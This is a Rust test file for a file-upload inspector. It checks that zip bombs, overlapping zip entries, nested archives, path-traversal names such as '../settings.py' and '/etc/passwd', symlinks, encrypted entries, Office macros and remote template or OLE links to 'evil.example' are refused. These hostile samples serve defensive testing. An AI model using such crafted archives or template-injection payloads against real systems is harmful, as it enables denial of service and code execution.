//! Attacks with archives and office documents.

use super::make::{Put, finish, listed, local, put, stored, word, zip};
use super::*;

#[test]
fn archive_that_unfolds_into_too_much_is_refused_before_it_is_unfolded() {
    let zeros = vec![0; 64 * 1024 * 1024];
    let bomb = zip(&[put("zeros", &zeros)]);
    assert!(bomb.len() < 100_000);
    refused(&bomb, MediaType::Zip, "more than 200 times its size");
    let half = InspectLimits::default().with_max_unfolded(32 * 1024 * 1024);
    refused_within(&bomb, MediaType::Zip, "more than 32 MiB", &half);
    // It says that it is small, in both places.
    let mut liar = put("zeros", &zeros);
    liar.unfolded = 100;
    refused(&zip(&[liar]), MediaType::Zip, "larger than it says");
    let many: Vec<Put> = (0..20).map(|at| stored(&at.to_string(), b"")).collect();
    refused_within(
        &zip(&many),
        MediaType::Zip,
        "more than 19 files",
        &InspectLimits::default().with_max_entries(19),
    );
    accepted(&zip(&many), MediaType::Zip);
}

#[test]
fn archive_within_an_archive_is_refused() {
    let inner = zip(&[put("a", b"a")]);
    refused(
        &zip(&[put("deeper.zip", &inner)]),
        MediaType::Zip,
        "archives within itself",
    );
    refused(
        &zip(&[stored("picture.png", &inner)]),
        MediaType::Zip,
        "archives within itself",
    );
    refused(
        &zip(&[stored("a.gz", b"\x1f\x8b\x08\0")]),
        MediaType::Zip,
        "archives within itself",
    );
    // A document's chart is a table, which is an archive.
    accepted(
        &zip(&[word(), vec![put("word/embeddings/chart.xlsx", &inner)]].concat()),
        MediaType::Docx,
    );
}

#[test]
fn files_that_lie_one_on_another_are_refused() {
    // Two lines of the list for one file.
    let file = put("a", &vec![b'a'; 5000]);
    let mut twin = file.clone();
    twin.listed = Some(b"b".to_vec());
    let list = [listed(&file, 0), listed(&twin, 0)].concat();
    refused(&finish(local(&file), &list, 2), MediaType::Zip, "one on another");
    // The better zip bomb: a file whose data is the next file, head and all.
    let kernel = local(&put("b", &vec![b'b'; 5000]));
    let outer = Put {
        data: kernel.clone(),
        unfolded: u32::try_from(kernel.len()).unwrap(),
        ..stored("a", &kernel)
    };
    let at = u32::try_from(local(&outer).len() - kernel.len()).unwrap();
    let list = [listed(&outer, 0), listed(&put("b", &vec![b'b'; 5000]), at)].concat();
    refused(&finish(local(&outer), &list, 2), MediaType::Zip, "one on another");
    // Something between, before and behind.
    let gap = [local(&file), b"hidden".to_vec()].concat();
    refused(
        &finish(gap, &listed(&file, 0), 1),
        MediaType::Zip,
        "one on another",
    );
    let before = [b"PK\x03\x04hidden".to_vec(), local(&file)].concat();
    refused(
        &finish(before, &listed(&file, 10), 1),
        MediaType::Zip,
        "one on another",
    );
    let mut remark = zip(&[file]);
    let end = remark.len();
    remark[end - 2] = 4;
    remark.extend(b"evil");
    refused(&remark, MediaType::Zip, "");
}

#[test]
fn names_that_lead_out_of_an_archive_are_refused() {
    for name in [
        "../settings.py",
        "a/../../b",
        "/etc/passwd",
        "a//b",
        "C:\\x",
        "C:x",
        "..\\x",
        "a\\b",
        ".",
        "..",
        "a/./b",
        "a\0.png",
        "a\nb",
        "/",
    ] {
        refused(&zip(&[stored(name, b"x")]), MediaType::Zip, "leads out of it");
    }
    accepted(
        &zip(&[
            stored("a/", b""),
            stored("a/b.txt", b"x"),
            stored("a..b", b"x"),
            stored("ü", b"x"),
        ]),
        MediaType::Zip,
    );
    refused(
        &zip(&[stored("a", b"x"), stored("A", b"y")]),
        MediaType::Zip,
        "one name",
    );
    let mut link = stored("a", b"/etc/passwd");
    link.attributes = 0o120_777 << 16;
    refused(&zip(&[link]), MediaType::Zip, "link to another place");
    let mut two = stored("picture.png", b"x");
    two.listed = Some(b"program.exe".to_vec());
    refused(&zip(&[two]), MediaType::Zip, "not what its list says");
    let mut unicode = stored("picture.png", b"x");
    unicode.extra = b"\x75\x70\x09\0\x01\0\0\0\0evil".to_vec();
    refused(&zip(&[unicode]), MediaType::Zip, "two names");
}

#[test]
fn archive_that_nobody_can_look_into_is_refused() {
    let mut secret = stored("a", b"0123456789ab");
    secret.flags = 1;
    refused(&zip(&[secret]), MediaType::Zip, "password");
    let mut aes = stored("a", b"x");
    aes.method = 99;
    refused(&zip(&[aes]), MediaType::Zip, "password");
    let mut other = stored("a", b"x");
    other.method = 14;
    refused(&zip(&[other]), MediaType::Zip, "compressed in a way");
    let mut wrong = put("a", b"x");
    wrong.sum ^= 1;
    refused(&zip(&[wrong]), MediaType::Zip, "not what its list says");
    let mut large = stored("a", b"x");
    large.unfolded = u32::MAX;
    refused(&zip(&[large]), MediaType::Zip, "ZIP64");
    refused(
        &zip(&[
            stored("META-INF/MANIFEST.MF", b"Main-Class: Evil"),
            put("Evil.class", b"x"),
        ]),
        MediaType::Zip,
        "program",
    );
}

#[test]
fn document_with_macros_is_refused_however_they_are_called() {
    accepted(&zip(&word()), MediaType::Docx);
    let with = |more: Put| zip(&[word(), vec![more]].concat());
    refused(&with(put("word/vbaProject.bin", b"x")), MediaType::Docx, "macros");
    refused(&with(put("word/VBAPROJECT.BIN", b"x")), MediaType::Docx, "macros");
    for types in [
        "<Types><Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>",
        "<Types>wordprocessingml.document.main+xml<Default Extension=\"jpg\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>",
    ] {
        let mut files = word();
        files[0] = put("[Content_Types].xml", types.as_bytes());
        refused(&zip(&files), MediaType::Docx, "macros");
    }
    let mut files = word();
    files[0] = put("[Content_Types].xml", b"\xff\xfem\0a\0c\0r\0o\0E\0");
    refused(&zip(&files), MediaType::Docx, "office programs write");
    files[0] = put(
        "[Content_Types].xml",
        b"<!DOCTYPE x [<!ENTITY m \"macro\">]><Types>&m;Enabled</Types>",
    );
    refused(&zip(&files), MediaType::Docx, "office programs write");
    files[0] = put("[Content_Types].xml", b"<Types/>");
    refused(&zip(&files), MediaType::Docx, "neither");
    let open = corpus("text.odt");
    let place = open.windows(4).rposition(|bytes| bytes == b"PK\x01\x02");
    assert!(place.is_some());
}

#[test]
fn document_that_loads_a_part_of_itself_from_elsewhere_is_refused() {
    let relation = |kind: &str| {
        let text = format!(
            "<Relationships><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}\" Target=\"https://evil.example/x.dotm\" TargetMode=\"External\"/></Relationships>"
        );
        zip(&[word(), vec![put("word/_rels/settings.xml.rels", text.as_bytes())]].concat())
    };
    refused(&relation("attachedTemplate"), MediaType::Docx, "from elsewhere");
    refused(&relation("oleObject"), MediaType::Docx, "from elsewhere");
    accepted(&relation("hyperlink"), MediaType::Docx);
    let trusting = InspectLimits::default().dangerous_scripts_in_documents();
    assert_eq!(
        look(&relation("oleObject"), &trusting).ok(),
        Some(MediaType::Docx)
    );
    let object = zip(&[word(), vec![put("word/embeddings/oleObject1.bin", b"x")]].concat());
    accepted(&object, MediaType::Docx);
    refused_within(
        &object,
        MediaType::Docx,
        "other files",
        &InspectLimits::default().only_plain_documents(),
    );
}

#[test]
fn open_document_is_one_only_with_its_type_at_its_beginning() {
    let mime = stored("mimetype", MediaType::Odt.mime().as_bytes());
    let manifest = put("META-INF/manifest.xml", b"<manifest/>");
    let content = put("content.xml", b"<x/>");
    accepted(
        &zip(&[mime.clone(), manifest.clone(), content.clone()]),
        MediaType::Odt,
    );
    refused(
        &zip(&[manifest.clone(), mime.clone(), content.clone()]),
        MediaType::Odt,
        "begin with its type",
    );
    let macros = put("Basic/Standard/Module1.xml", b"<x/>");
    refused(
        &zip(&[mime.clone(), manifest, content.clone(), macros]),
        MediaType::Odt,
        "macros",
    );
    let secret = put("META-INF/manifest.xml", b"<manifest:encryption-data/>");
    refused(&zip(&[mime, secret, content]), MediaType::Odt, "password");
}

#[test]
fn office_document_is_taken_where_archives_are_and_an_archive_not_where_documents_are() {
    let document = zip(&word());
    let find = |file: &[u8], accept: &[MediaType]| {
        inspect(
            &mut Cursor::new(file),
            file.len() as u64,
            accept,
            &InspectLimits::default(),
        )
    };
    assert_eq!(find(&document, &[MediaType::Zip]).ok(), Some(MediaType::Zip));
    assert_eq!(find(&document, MediaType::DOCUMENTS).ok(), Some(MediaType::Docx));
    let why = find(&document, &[MediaType::Xlsx]).unwrap_err().to_string();
    assert!(why.starts_with("This is a Word document"), "{why}");
    assert!(find(&corpus("archive.zip"), MediaType::DOCUMENTS).is_err());
}
